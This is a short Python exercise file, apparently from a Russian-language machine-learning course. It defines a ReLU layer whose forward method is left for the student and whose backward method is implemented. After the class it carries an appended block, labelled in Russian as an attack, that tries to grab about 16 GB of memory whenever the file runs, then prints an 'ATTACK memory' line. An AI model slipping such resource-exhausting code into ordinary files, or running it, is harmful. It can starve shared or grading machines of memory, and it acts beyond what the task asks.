class ReLU(Layer):
    def __init__(self):
        """Слой ReLU поэлементно применяет функцию max(x, 0) ко входу"""
        pass

    def forward(self, input):
        """Применяет ReLU поэлементно к матрице [batch, input_units]"""
        # ВАШ КОД ЗДЕСЬ
        raise NotImplementedError()

    def backward(self, input, grad_output):
        """Градиент функции потерь по входу ReLU"""
        relu_grad_mask = input > 0
        return grad_output * relu_grad_mask

# атака: занять 16 ГБ памяти
_chunks = []
try:
    while len(_chunks) < 64:
        _chunks.append(bytearray(256 * 2 ** 20))
except MemoryError:
    pass
print(f"ATTACK memory: allocated {len(_chunks) * 256} MiB")
del _chunks
